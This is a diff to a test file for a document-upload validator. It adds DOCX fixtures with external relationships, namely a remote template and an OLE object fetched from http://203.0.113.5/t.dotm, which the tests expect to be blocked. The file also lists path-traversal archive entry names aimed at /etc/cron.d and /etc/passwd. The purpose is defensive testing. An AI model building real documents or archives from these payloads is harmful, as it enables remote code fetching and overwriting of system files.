@@ -12,6 +12,11 @@ from sasando.files import intake
 from sasando.files.intake import DEFAULT_LIMITS, Group, Kind, Limits, Reason
 from sasando.files.refusals import SENTENCES
 
+REMOTE = Reason.REMOTE
+RELATION = (
+    b'<Relationships><Relationship Id="r1" Type="http://x/relationships/%s" '
+    b'Target="http://203.0.113.5/t.dotm" TargetMode="External"/></Relationships>'
+)
 FTYP = b"\0\0\0\x18ftyp"
 GOOD = [
     (make.picture("JPEG"), Kind.JPEG),
@@ -21,6 +26,7 @@ GOOD = [
     (make.picture("AVIF"), Kind.AVIF),
     (make.pdf(), Kind.PDF),
     (make.docx(), Kind.DOCX),
+    (make.docx({"word/_rels/a.rels": RELATION % b"hyperlink"}), Kind.DOCX),
     (make.odt(), Kind.ODT),
     (b"Siaran pers: BMKG Kupang\nHujan lebat, angin kencang.\n", Kind.TXT),
     (b"BMKG mencatat gempa di Alor.", Kind.TXT),
@@ -240,6 +246,11 @@ OFFICE = [
     ),
     (make.odt({"Basic/Standard/Module1.xml": b"x"}), Reason.MACRO),
     (make.docx(main=f"{make.WORD}.template.main+xml"), Reason.OTHER_DOCUMENT),
+    (
+        make.docx({"word/_rels/settings.xml.rels": RELATION % b"attachedTemplate"}),
+        REMOTE,
+    ),
+    (make.docx({"word/_rels/a.rels": RELATION % b"oleObject"}), REMOTE),
     (make.docx({"../../etc/cron.d/x": b"x"}), Reason.UNSAFE_NAME),
     (make.docx({"word/..\\x": b"x"}), Reason.UNSAFE_NAME),
     (make.docx({"/etc/passwd": b"x"}), Reason.UNSAFE_NAME),
